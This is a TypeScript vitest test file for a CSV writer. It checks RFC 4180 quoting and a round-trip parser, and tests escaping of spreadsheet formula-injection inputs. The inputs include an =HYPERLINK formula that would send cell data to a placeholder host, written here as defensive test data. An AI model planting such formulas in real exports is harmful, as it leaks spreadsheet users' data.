import { expect, test } from 'vitest';
import { csv } from './csv.ts';

test('a table has its header line, and every line ends as RFC 4180 wants it', () => {
  expect(csv(['a', 'b'], [])).toBe('a,b\r\n');
  expect(
    csv(
      ['a', 'b'],
      [
        ['1', '2'],
        ['3', '4'],
      ],
    ),
  ).toBe('a,b\r\n1,2\r\n3,4\r\n');
});

test.each([
  ['plain', 'plain'],
  [' spaces stay ', ' spaces stay '],
  ["an 'apostrophe'", "an 'apostrophe'"],
  ['Zürich 🦊', 'Zürich 🦊'],
  ['a;b\tc', 'a;b\tc'],
  ['', ''],
  [undefined, ''],
  ['a,b', '"a,b"'],
  ['say "yes"', '"say ""yes"""'],
  ['"', '""""'],
  ['two\nlines', '"two\nlines"'],
  ['two\r\nlines', '"two\r\nlines"'],
  ['a lone\rreturn', '"a lone\rreturn"'],
  ['{"a":"1,2"}', '"{""a"":""1,2""}"'],
  ['a=b', 'a=b'],
  ['5-4', '5-4'],
  ["o'clock", "o'clock"],
])('the cell %j stands as %j', (text, cell) => {
  expect(csv(['x'], [[text]])).toBe(`x\r\n${cell}\r\n`);
});

test.each([
  ['=1+1', "'=1+1"],
  ['+1', "'+1"],
  ['-1', "'-1"],
  ['@SUM(1)', "'@SUM(1)"],
  ['=HYPERLINK("http://x.example/"&A1)', '"\'=HYPERLINK(""http://x.example/""&A1)"'],
  ['＝1', "'＝1"],
  ['＋1', "'＋1"],
  ['－1', "'－1"],
  ['＠a', "'＠a"],
  [' =1', "' =1"],
  ['\u00a0\u3000=1', "'\u00a0\u3000=1"],
  ['\ufeff\u200b=1', "'\ufeff\u200b=1"],
  ['"=1', '"\'""=1"'],
  ['\tx', "'\tx"],
  ['\t=x', "'\t'=x"],
  ['\rx', '"\'\rx"'],
  ['\nx', '"\'\nx"'],
  ['x;=1', "x;'=1"],
  ['x\t@1', "x\t'@1"],
  ['x\n+1', '"x\n\'+1"'],
  ['x;"=1', '"x;\'""=1"'],
  ["'", "''"],
  ["'=1", "''=1"],
  ["x;'=1", "x;''=1"],
])('the cell %j, which a spreadsheet might run, stands as %j', (text, cell) => {
  expect(csv(['x'], [[text]])).toBe(`x\r\n${cell}\r\n`);
});

test('a number stays a number, also a negative one', () => {
  expect(csv(['x'], [[-1.5, 0]])).toBe('x\r\n-1.5,0\r\n');
});

test('whatever is in a cell comes back out of it', () => {
  const rows = [
    ['a,b', 'c"d', 'e\r\nf', '""', ',', ''],
    ['x\n', '"\r"', 'x', '', '', '"",""'],
  ];
  const [, ...read] = parse(csv(['1', '2', '3', '4', '5', '6'], rows));
  expect(read).toEqual(rows);
});

/** Reads CSV letter by letter, as RFC 4180 describes it. */
function parse(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let isQuoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const letter = text[at];
    if (isQuoted && letter === '"' && text[at + 1] === '"') {
      cell += '"';
      at += 1;
    } else if (letter === '"') isQuoted = !isQuoted;
    else if (isQuoted) cell += letter;
    else if (letter === ',') {
      row.push(cell);
      cell = '';
    } else if (letter === '\r' && text[at + 1] === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
      at += 1;
    } else cell += letter;
  }
  return rows;
}
